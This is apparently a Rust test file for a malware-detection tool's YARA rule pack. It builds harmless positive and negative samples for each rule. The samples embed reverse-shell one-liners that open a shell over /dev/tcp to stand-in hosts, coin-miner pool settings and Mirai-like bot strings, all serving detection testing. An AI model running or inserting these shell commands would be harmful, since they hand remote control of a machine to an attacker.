//! Every rule of Vigil's YARA pack (`rules/yara/`) matches its positive samples and none of
//! its negative ones. The samples are made here, from harmless bytes (and the system's own
//! `/bin/true` and `/bin/sh` as ordinary ELF files): nothing malicious is committed.
#![cfg(feature = "yara")]

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};

use vigil_detect::yara::{FileVerdict, ScanLimits, YaraRules, YaraScanner};

fn pack_dir() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../../rules/yara")
}

/// The EICAR test string, assembled so that this source file does not contain it.
fn eicar() -> Vec<u8> {
    let mut s = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$".to_vec();
    s.extend_from_slice(b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*");
    s
}

/// A real, ordinary ELF executable of this system.
fn elf() -> Vec<u8> {
    std::fs::read("/bin/true").expect("/bin/true")
}

/// `base` with `parts` appended, NUL-separated as strings in a binary are.
fn with(base: &[u8], parts: &[&[u8]]) -> Vec<u8> {
    let mut out = base.to_vec();
    for p in parts {
        out.push(0);
        out.extend_from_slice(p);
    }
    out.push(0);
    out
}

/// A 64-bit ELF header followed by zeros to `len` bytes, with `marker` at `at`.
fn elf_with_at(len: usize, marker: &[u8], at: usize) -> Vec<u8> {
    let mut out = vec![0u8; len];
    out[..7].copy_from_slice(b"\x7fELF\x02\x01\x01");
    out[at..at + marker.len()].copy_from_slice(marker);
    out
}

struct Samples {
    positive: Vec<(&'static str, Vec<u8>)>,
    negative: Vec<(&'static str, Vec<u8>)>,
}

/// Samples by rule id (`<file namespace>.<rule>`).
fn samples() -> BTreeMap<&'static str, Samples> {
    let mut m = BTreeMap::new();
    let mut eicar_crlf = eicar();
    eicar_crlf.extend_from_slice(b"\r\n");
    let mut eicar_padded = eicar();
    eicar_padded.extend_from_slice(&[b'x'; 100]);
    m.insert(
        "eicar.Vigil_EICAR_Test_File",
        Samples {
            positive: vec![("eicar", eicar()), ("eicar + CRLF", eicar_crlf)],
            negative: vec![
                (
                    "eicar not at the start",
                    [b"hello ".as_slice(), &eicar()].concat(),
                ),
                ("eicar inside a larger file", eicar_padded),
                ("an ELF", elf()),
            ],
        },
    );
    m.insert(
        "reverse_shell.Vigil_ELF_Embedded_Reverse_Shell",
        Samples {
            positive: vec![
                (
                    "ELF with bash -i >& /dev/tcp",
                    with(&elf(), &[b"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"]),
                ),
                (
                    "ELF with sh -i and a host name",
                    with(
                        &elf(),
                        &[b"/bin/sh -i 5<> /dev/tcp/c2.example.net/443 0<&5 1>&5 2>&5"],
                    ),
                ),
            ],
            negative: vec![
                (
                    "the one-liner in a shell script (not an ELF)",
                    b"#!/bin/sh\nbash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n".to_vec(),
                ),
                (
                    "an ELF naming /dev/tcp without a host (as bash does)",
                    with(&elf(), &[b"/dev/tcp", b"bash -i"]),
                ),
                (
                    "the system shell",
                    std::fs::read("/bin/sh").expect("/bin/sh"),
                ),
            ],
        },
    );
    m.insert(
        "miner.Vigil_Coin_Miner_XMRig_Like",
        Samples {
            positive: vec![
                (
                    "ELF with a pool URL and miner options",
                    with(
                        &elf(),
                        &[
                            b"stratum+tcp://pool.example.net:3333",
                            b"--donate-level",
                            b"rx/0",
                        ],
                    ),
                ),
                (
                    "a miner configuration",
                    br#"{"donate-level": 1, "randomx": {"mode": "auto"}, "pools": [{"url": "stratum+ssl://pool.example.net:443"}]}"#
                        .to_vec(),
                ),
            ],
            negative: vec![
                (
                    "a pool URL alone",
                    b"see stratum+tcp://pool.example.net:3333 for the protocol".to_vec(),
                ),
                (
                    "miner words without a pool",
                    with(&elf(), &[b"--donate-level", b"randomx", b"cryptonight"]),
                ),
                ("an ELF", elf()),
            ],
        },
    );
    m.insert(
        "mirai.Vigil_Linux_Mirai_Like_Bot",
        Samples {
            positive: vec![(
                "ELF with watchdog, busybox tag and flood strings",
                with(
                    &elf(),
                    &[
                        b"/dev/watchdog",
                        b"/bin/busybox ECCHI",
                        b"TSource Engine Query",
                        b"/proc/net/tcp",
                    ],
                ),
            )],
            negative: vec![
                (
                    "ELF with the watchdog and busybox only",
                    with(&elf(), &[b"/dev/watchdog", b"/bin/busybox ECCHI"]),
                ),
                (
                    "the strings outside an ELF",
                    with(
                        b"notes",
                        &[
                            b"/dev/watchdog",
                            b"/bin/busybox ECCHI",
                            b"TSource Engine Query",
                            b"/proc/net/tcp",
                        ],
                    ),
                ),
                ("an ELF", elf()),
            ],
        },
    );
    m.insert(
        "upx.Vigil_ELF_UPX_Packed",
        Samples {
            positive: vec![(
                "ELF with UPX! after its headers",
                elf_with_at(4096, b"UPX!", 0xec),
            )],
            negative: vec![
                (
                    "ELF with UPX! far from its headers",
                    with(&elf(), &[b"UPX!"]),
                ),
                ("UPX! outside an ELF", b"UPX! is a packer".to_vec()),
                ("an ELF", elf()),
            ],
        },
    );
    m
}

#[test]
fn every_pack_rule_matches_its_positives_and_none_of_its_negatives() {
    let rules = YaraRules::load(&[pack_dir()]).unwrap_or_else(|e| panic!("{e}"));
    assert!(
        rules.summary().warnings.is_empty(),
        "{:#?}",
        rules.summary().warnings
    );
    let samples = samples();
    let ids = rules.rule_ids();
    let with_samples: Vec<_> = samples.keys().map(|k| (*k).to_owned()).collect();
    let mut sorted = ids.clone();
    sorted.sort();
    assert_eq!(
        sorted, with_samples,
        "every pack rule needs samples, and only those"
    );

    let dir = tempfile::tempdir().unwrap();
    let mut scanner = YaraScanner::new(&rules, ScanLimits::default());
    let mut scan = |name: &str, bytes: &[u8]| -> Vec<String> {
        let path = dir.path().join(name.replace(['/', ' '], "_"));
        std::fs::write(&path, bytes).unwrap();
        match scanner.scan_file(&path).unwrap() {
            FileVerdict::Scanned(s) => s.matches.iter().map(|m| m.id()).collect(),
            other => panic!("{name}: not scanned: {other:?}"),
        }
    };
    for (id, s) in &samples {
        assert!(!s.positive.is_empty() && !s.negative.is_empty(), "{id}");
        for (name, bytes) in &s.positive {
            assert_eq!(scan(name, bytes), [*id], "{id} must match: {name}");
        }
        for (name, bytes) in &s.negative {
            let hits = scan(name, bytes);
            assert!(!hits.iter().any(|h| h == id), "{id} must not match: {name}");
        }
    }
}

#[test]
fn every_pack_rule_has_the_metadata_findings_need() {
    let rules = YaraRules::load(&[pack_dir()]).unwrap();
    let mut scanner = YaraScanner::new(&rules, ScanLimits::default());
    for (id, s) in samples() {
        let bytes = &s.positive[0].1;
        let hit = scanner
            .scan_bytes(bytes)
            .unwrap()
            .into_iter()
            .find(|m| m.id() == id)
            .unwrap_or_else(|| panic!("{id} matches its first sample"));
        for key in ["description", "severity", "author"] {
            assert!(hit.meta(key).is_some(), "{id} lacks meta {key}");
        }
        assert_eq!(hit.meta("author"), Some("Vigil"));
        let facts = vigil_detect::yara::FileFacts {
            path: "/tmp/sample".into(),
            sha256: "00".repeat(32),
            size: bytes.len() as u64,
        };
        let finding = vigil_detect::yara::yara_finding(&hit, &facts, None, 1);
        // The test file is no attack; every other rule names its technique.
        if id != "eicar.Vigil_EICAR_Test_File" {
            let attack = finding
                .finding_info
                .attacks
                .first()
                .unwrap_or_else(|| panic!("{id} maps to ATT&CK"));
            let technique = attack.technique.as_ref().expect("a technique");
            assert!(technique.name.is_some(), "{id}: {} is known", technique.uid);
            assert!(attack.tactic.is_some(), "{id} has a tactic");
        }
    }
}
